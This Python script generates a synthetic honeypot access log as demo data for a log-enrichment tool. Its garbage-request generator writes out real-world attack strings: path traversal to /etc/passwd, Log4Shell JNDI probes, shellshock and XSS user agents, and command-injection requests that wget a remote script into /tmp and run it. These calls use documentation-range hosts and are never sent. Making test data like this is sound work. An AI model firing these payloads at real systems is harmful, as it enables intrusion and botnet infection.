#!/usr/bin/env python3
"""Writes samples/honeypot.log, a synthetic honeypot access log for logenrich's demos.

Deterministic: the same script always writes the same file (fixed seed, Python's `random`).
Every line is made up here; nothing is copied from a real log. Client addresses are from the
documentation ranges, except a few well-known public resolver addresses so that GeoIP demos
have something to show. Those addresses are only written into the file, never contacted.

Usage: python3 samples/make_sample.py [OUTPUT]   (default: honeypot.log beside this script)
Prints the number of lines of each kind to stderr.
"""

import collections
import datetime
import os
import random
import sys

SEED = 20220715
START = datetime.datetime(2022, 7, 14, 21, 3, 17, tzinfo=datetime.timezone.utc)
TZ = datetime.timezone(datetime.timedelta(hours=2))  # the honeypot's clock: CEST
LEGACY_LINES = 60  # the first lines predate `$server_port $host` in the log format

HONEYPOT_V4 = "198.51.100.77"
HONEYPOT_V6 = "[2001:db8:60::face]"
SITE = "www.example.com"

# Well-known public resolvers (for GeoIP demos only; never contacted).
PUBLIC_V4 = [
    "8.8.8.8", "8.8.4.4", "1.1.1.1", "1.0.0.1", "9.9.9.9", "149.112.112.112",
    "208.67.222.222", "208.67.220.220", "94.140.14.14", "77.88.8.8", "114.114.114.114",
    "223.5.5.5", "168.126.63.1", "84.200.69.80", "4.2.2.2", "80.80.80.80",
]
PUBLIC_V6 = [
    "2001:4860:4860::8888", "2606:4700:4700::1111", "2620:fe::fe", "2620:119:35::35",
    "2a02:6b8::feed:0ff",
]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.114 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 15_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 12; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Safari/537.36 Edg/103.0.1264.62",
]
BOTS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ["/robots.txt", "/", "/sitemap.xml", "/blog/"]),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", ["/robots.txt", "/", "/about"]),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ["/robots.txt", "/blog/2022/07/hello-world/"]),
    ("curl/7.68.0", ["/"]),
    ("python-requests/2.28.1", ["/", "/.env", "/config.json"]),
    ("Python-urllib/3.8", ["/", "/remote/login"]),
    ("Go-http-client/1.1", ["/", "/.git/config", "/actuator/health"]),
    ("Mozilla/5.0 zgrab/0.x", ["/", "/favicon.ico"]),
    ("Wget/1.21.2", ["/"]),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ["/"]),
    ("Hakai/2.0", ["/"]),
]
# Each contains a User-Agent keyword of the reference scanner list.
SCANNERS = [
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", ["/", "/favicon.ico", "TLS"]),
    ("Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@expanseinc.com", ["/"]),
    ("Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)", ["/", "/robots.txt"]),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", ["/", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/evox/about", "/HNAP1", "OPTIONS /"]),
    ("Mozilla/5.0 (compatible; NetSystemsResearch studies the availability of various services across the internet. Our website is netsystemsresearch.com)", ["/"]),
    ("Mozilla/5.0 (compatible; project_patchwatch/1.0)", ["/", "/owa/auth/logon.aspx"]),
    ("Mozilla/5.0 (compatible; IPIP security research; +https://security.ipip.net/)", ["/"]),
]
PAGE_ASSETS = ["/static/css/site.css", "/static/js/app.js", "/images/logo.png", "/favicon.ico"]
PAGES = ["/", "/blog/", "/blog/2022/07/hello-world/", "/about", "/contact", "/search?q=honeypot"]

rng = random.Random(SEED)
_doc_hosts = {}


def doc_v4():
    net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
    return f"{net}.{rng.randint(1, 254)}"


def doc_v6():
    return f"2001:db8:{rng.randint(1, 0xffff):x}:{rng.randint(1, 0xfff):x}::{rng.randint(1, 0xfff):x}"


def client(v6_share=0.15, public_share=0.06):
    """A client address: mostly documentation ranges, sometimes IPv6, sometimes public."""
    if rng.random() < public_share:
        return rng.choice(PUBLIC_V6 if rng.random() < v6_share * 2 else PUBLIC_V4)
    return doc_v6() if rng.random() < v6_share else doc_v4()


def rec(kind, request, status, size, ua, referer="-", xff="-", host=None, port=None, user="-"):
    return dict(kind=kind, request=request, status=status, size=size, ua=ua, referer=referer,
                xff=xff, host=host, port=port, user=user)


def browser_visit():
    ua = rng.choice(BROWSERS)
    page = rng.choice(PAGES)
    port = 443
    out = [rec("browser", f"GET {page} HTTP/1.1", 200, rng.randint(2800, 24000), ua,
               referer=rng.choice(["-", "https://www.google.com/", "https://duckduckgo.com/"]),
               host=SITE, port=port)]
    for asset in rng.sample(PAGE_ASSETS, rng.randint(1, 3)):
        status = rng.choice([200, 200, 304])
        size = 0 if status == 304 else rng.randint(400, 60000)
        out.append(rec("browser", f"GET {asset} HTTP/1.1", status, size, ua,
                       referer=f"https://{SITE}{page}", host=SITE, port=port))
    if rng.random() < 0.25:
        out.append(rec("browser", "POST /contact HTTP/1.1", 303, 0, ua,
                       referer=f"https://{SITE}/contact", host=SITE, port=port))
    return out


def bot_visit():
    ua, paths = next(_bots)
    port = rng.choice([80, 443])
    host = SITE if ua.startswith("Mozilla/5.0 (compatible") else HONEYPOT_V4
    out = []
    for path in paths:
        status = 200 if path in ("/", "/robots.txt", "/blog/", "/about", "/sitemap.xml") else 404
        out.append(rec("bot", f"GET {path} HTTP/1.1", status,
                       rng.randint(900, 9000) if status == 200 else 153, ua, host=host, port=port))
    return out


def scanner_visit():
    ua, paths = next(_scanners)
    port = rng.choice([80, 443, 443])
    host = rng.choice([HONEYPOT_V4, HONEYPOT_V4, HONEYPOT_V6])
    out = []
    for path in paths:
        if path == "TLS":
            req = "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03" + "".join(
                f"\\x{rng.randint(0, 255):02X}" for _ in range(10))
            out.append(rec("garbage:binary", req, 400, 157, "-", host=None, port=port))
            continue
        method, _, path = path.rpartition(" ")
        req = f"{method or 'GET'} {path} HTTP/1.1"
        status = 200 if path == "/" else rng.choice([404, 404, 405])
        out.append(rec("scanner-ua", req, status, 3167 if status == 200 else 153, ua,
                       host=host, port=port))
    return out


def garbage():
    """One garbage request, of a kind chosen in turn."""
    kind = next(_garbage_kinds)
    ua = rng.choice(["-", "Mozilla/5.0", "Hakai/2.0", "Mozilla/5.0 zgrab/0.x",
                     "python-requests/2.28.1", BROWSERS[0]])
    port = rng.choice([80, 443])
    host = rng.choice([HONEYPOT_V4, HONEYPOT_V4, HONEYPOT_V6])
    payload = doc_v4()
    if kind == "traversal":
        depth = rng.randint(6, 24)
        req = rng.choice([
            "GET /remote/fgt_lang?lang=/" + "../" * depth + "/" * 10 + "dev/cmdb/sslvpn_websession HTTP/1.1",
            "GET /cgi-bin/" + ".%2e/" * depth + "bin/sh HTTP/1.1",
            "GET /" + "..%2f" * depth + "etc/passwd HTTP/1.1",
            "GET /static/" + "..\\x5C" * depth + "windows/win.ini HTTP/1.1",
        ])
        return [rec("garbage:traversal", req, rng.choice([400, 404]), 232, ua, host=host, port=port)]
    if kind == "jndi":
        probe = rng.choice(["${jndi:ldap://%s:1389/Exploit}", "${${lower:j}ndi:${lower:l}dap://%s/a}",
                            "${jndi:dns://%s/callback}"]) % payload
        where = rng.choice(["request", "ua", "referer", "xff"])
        return [rec("garbage:jndi",
                    f"GET /?x={probe} HTTP/1.1" if where == "request" else "GET / HTTP/1.1",
                    200, 3167, probe if where == "ua" else BROWSERS[2],
                    referer=probe if where == "referer" else "-",
                    xff=probe if where == "xff" else "-", host=host, port=port)]
    if kind == "shell":
        req = rng.choice([
            f"GET /login.cgi?cli=aa%20aa%27;wget%20http://{payload}/x.sh%20-O%20-%3E%20/tmp/kh;sh%20/tmp/kh%27$ HTTP/1.1",
            f"GET /shell?cd+/tmp;rm+-rf+*;wget+http://{payload}/bins.sh;chmod+777+bins.sh;sh+bins.sh HTTP/1.1",
            f"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{payload}:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0",
            f"POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh?echo;cd${{IFS}}/tmp;wget${{IFS}}http://{payload}/mips HTTP/1.1",
        ])
        return [rec("garbage:shell-wget", req, rng.choice([400, 404]), 157, "Hakai/2.0", host=host, port=port)]
    if kind == "binary":
        req = rng.choice([
            "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" + "".join(f"\\x{rng.randint(0, 255):02X}" for _ in range(12)),
            "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
            "".join(f"\\x{rng.randint(0, 255):02X}" for _ in range(rng.randint(4, 16))),
            "SSH-2.0-Go\\x0D",
        ])
        return [rec("garbage:binary", req, 400, 157, "-", host=None, port=port)]
    if kind == "empty":
        return [rec("garbage:empty-request", "", 400, 0, "-", host=None, port=port)]
    if kind == "no-protocol":
        req = rng.choice(["GET /", "GET /favicon.ico", f"MGLNDD_{HONEYPOT_V4}_{port}", "HELP"])
        return [rec("garbage:no-protocol", req, 400, 157, "-", host=host, port=port)]
    if kind == "escaped-quote":
        ua = rng.choice([
            'Mozilla/5.0 \\"compatible\\" (Windows NT 10.0)',
            '() { :; }; echo; echo \\"shellshock\\"',
            "Mozilla/5.0 \\x22><script>alert(1)</script>",
        ])
        return [rec("garbage:escaped-quote", "GET /cgi-bin/status HTTP/1.1", 404, 153, ua, host=host, port=port)]
    if kind == "xff-chain":
        xff = rng.choice([f"{doc_v4()}, {doc_v4()}", f"unknown, {doc_v4()}",
                          f"{doc_v4()}, {doc_v4()}, {doc_v4()}", f"{doc_v6()}, {doc_v4()}"])
        return [rec("garbage:xff-chain", "GET / HTTP/1.1", 200, 3167, rng.choice(BROWSERS), xff=xff,
                    host=SITE, port=port)]
    if kind == "proxy":
        req = rng.choice(["CONNECT www.example.org:443 HTTP/1.1", "GET http://example.org/ HTTP/1.1"])
        return [rec("garbage:proxy-probe", req, 400, 157, "-", host=host, port=port)]
    raise AssertionError(kind)


def _cycle(kinds):
    while True:
        yield from kinds


_scanners = _cycle(SCANNERS)
_bots = _cycle(BOTS)
_garbage_kinds = _cycle(["traversal", "jndi", "shell", "binary", "empty", "no-protocol",
                         "escaped-quote", "xff-chain", "proxy"])


MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def fmt_time(t):
    """`%d/%b/%Y:%H:%M:%S %z`, with English month names whatever the locale."""
    t = t.astimezone(TZ)
    return f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t:%H:%M:%S %z}"


def render(ip, t, r, legacy):
    line = (f'{ip} - {r["user"]} [{fmt_time(t)}] "{r["request"]}" {r["status"]} {r["size"]} '
            f'"{r["referer"]}" "{r["ua"]}" "{r["xff"]}"')
    if legacy:
        return line
    line += f' {r["port"]}'
    if r["host"] is not None:
        line += f' {r["host"]}'
    return line


def main():
    out_path = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
        os.path.dirname(os.path.abspath(__file__)), "honeypot.log")

    events = []
    events += [browser_visit for _ in range(25)]
    events += [bot_visit for _ in range(34)]
    events += [scanner_visit for _ in range(30)]
    events += [garbage for _ in range(81)]
    rng.shuffle(events)

    # A few clients come back: reuse earlier addresses for a share of the events.
    seen = []
    blocks = []
    for make in events:
        recs = make()
        if seen and rng.random() < 0.3:
            ip = rng.choice(seen)
        else:
            ip = client()
            seen.append(ip)
        blocks.append((ip, recs))
    # Every public address appears at least once.
    for i, ip in enumerate(PUBLIC_V4 + PUBLIC_V6):
        if not any(b[0] == ip for b in blocks):
            j = (i * 7 + 3) % len(blocks)
            blocks[j] = (ip, blocks[j][1])
    # Now and then a user behind a login.
    for ip, recs in blocks:
        if recs[0]["kind"] == "browser" and rng.random() < 0.2:
            for r in recs:
                r["user"] = "alice"

    lines, times, kinds = [], [], collections.Counter()
    t = START
    for ip, recs in blocks:
        t += datetime.timedelta(seconds=rng.expovariate(1 / 900))
        for r in recs:
            t += datetime.timedelta(seconds=rng.choice([0, 0, 1, 1, 2]))
            legacy = len(lines) < LEGACY_LINES
            lines.append(render(ip, t, r, legacy))
            times.append(t)
            kinds[r["kind"]] += 1
            kinds["legacy (no port/host)" if legacy else "current format"] += 1
            kinds["ipv6 client" if ":" in ip else "ipv4 client"] += 1
            if ip in PUBLIC_V4 or ip in PUBLIC_V6:
                kinds["public-address client"] += 1

    # Lines that are not access-log lines at all.
    err_time = times[199].astimezone(TZ).strftime("%Y/%m/%d %H:%M:%S")
    invalid = [
        # A line cut short (a crash mid-write), then written again in full.
        (40, lines[40][: lines[40].index('"') + 18]),
        (120, "upstream timed out while reading response header from upstream"),
        # An error-log line in the access log.
        (200, f'{err_time} [error] 1234#1234: *88 open() "/usr/share/nginx/html/x.php" failed '
              f'(2: No such file or directory), client: 192.0.2.61, server: _, request: "GET /x.php HTTP/1.1"'),
        (260, "\\x00\\x00\\x00\\x00 -- -- --"),
    ]
    for pos, text in sorted(invalid, reverse=True):
        lines.insert(pos, text)
        kinds["unparseable"] += 1

    with open(out_path, "w", encoding="ascii", newline="\n") as f:
        for line in lines:
            f.write(line + "\n")
    print(f"{len(lines)} lines written to {out_path}", file=sys.stderr)
    for kind, n in sorted(kinds.items()):
        print(f"  {kind}: {n}", file=sys.stderr)


if __name__ == "__main__":
    main()
